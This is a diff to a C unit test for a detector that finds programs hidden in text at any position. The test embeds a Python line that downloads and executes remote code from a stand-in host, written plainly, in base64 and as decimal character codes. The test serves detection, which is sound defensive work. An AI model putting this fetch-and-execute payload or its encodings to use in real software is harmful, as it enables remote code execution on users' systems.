@@ -308,17 +308,26 @@ has_program(const struct inspect_tools *t, const struct buf *text)
 	return found;
 }
 
+static void
+add_numbers(struct buf *b, const char *program)
+{
+	for (size_t i = 0; program[i] != '\0'; i++)
+		buf_addf(b, "%s%d", i == 0 ? "" : ", ", program[i]);
+}
+
 /* Passages behind words, numbers and blanks of each length. */
 static void
 finds_passages_at_any_place(void **state)
 {
+	static const char program[] = "import os, urllib.request\nexec(urllib."
+	    "request.urlopen('https://x.example.invalid/a').read())\n";
 	static const char base64[] = "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdApleGVj"
 	    "KHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8veC5leGFtcGxlLmludmFs"
 	    "aWQvYSIpLnJlYWQoKSkK";
 	static const char before[] = "a. bc; def: 12, 3 4 ghijk 5,6,7,x8";
 
 	for (size_t n = 0; n < 130; n++)
-		for (int kind = 0; kind < 2; kind++) {
+		for (int kind = 0; kind < 4; kind++) {
 			struct buf b = BUF_EMPTY;
 
 			for (size_t i = 0; i < n; i++)
@@ -326,9 +335,11 @@ finds_passages_at_any_place(void **state)
 			buf_addc(&b, '"');
 			if (kind == 0)
 				buf_adds(&b, base64);
-			else
+			else if (kind == 1)
 				buf_addf(&b, "%.40s\n%s", base64, base64 + 40);
-			buf_adds(&b, "\" and more\n");
+			else
+				add_numbers(&b, program);
+			buf_adds(&b, kind == 3 ? "" : "\" and more\n");
 			assert_true(has_program(*state, &b));
 			buf_release(&b);
 		}
